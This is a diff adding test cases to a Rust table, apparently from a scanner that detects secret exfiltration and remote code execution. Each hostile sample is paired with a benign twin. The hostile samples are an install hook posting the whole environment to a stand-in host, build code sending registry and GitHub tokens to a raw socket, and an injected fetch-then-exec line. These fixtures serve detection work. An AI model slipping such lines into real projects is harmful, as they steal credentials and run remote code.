@@ -516,6 +516,45 @@ const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
         None,
     ),
     (
+        // The whole environment posted from an install hook.
+        "exfiltration.secret_upload",
+        Data,
+        "\"preinstall\": \"node -e \\\"require('https').request({host:'m.example',method:'POST'}).end(JSON.stringify(process.env))\\\"\"\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.secret_upload",
+        Data,
+        "\"postinstall\": \"node -e \\\"require('https').request({host:'m.example'}).end('ok')\\\"\"\n",
+        None,
+    ),
+    (
+        // Tokens by name written down a raw socket from a build script.
+        "exfiltration.secret_variables_sent",
+        Code,
+        "for k in [\"CARGO_REGISTRY_TOKEN\", \"GITHUB_TOKEN\"] {\n    if let Ok(v) = env::var(k) { r.push_str(&v); }\n}\nif let Ok(mut s) = TcpStream::connect(\"198.51.100.61:9000\") {\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.secret_variables_sent",
+        Code,
+        "for k in [\"CARGO_REGISTRY_TOKEN\", \"GITHUB_TOKEN\"] {\n    if env::var(k).is_err() { missing.push(k); }\n}\n",
+        None,
+    ),
+    (
+        // A download run as it arrives, at every interpreter start.
+        "remote_exec.fetch_then_exec",
+        Code,
+        "fh.write(\"import urllib.request as u;exec(u.urlopen('https://d.example/h').read())\")\n",
+        Some(Bl),
+    ),
+    (
+        "remote_exec.fetch_then_exec",
+        Code,
+        "import urllib.request as u\nprint(u.urlopen('https://d.example/v').read())\n",
+        None,
+    ),
+    (
         // The same table in a scanner that reports only on the terminal.
         "exfiltration.secret_files_sent",
         Code,
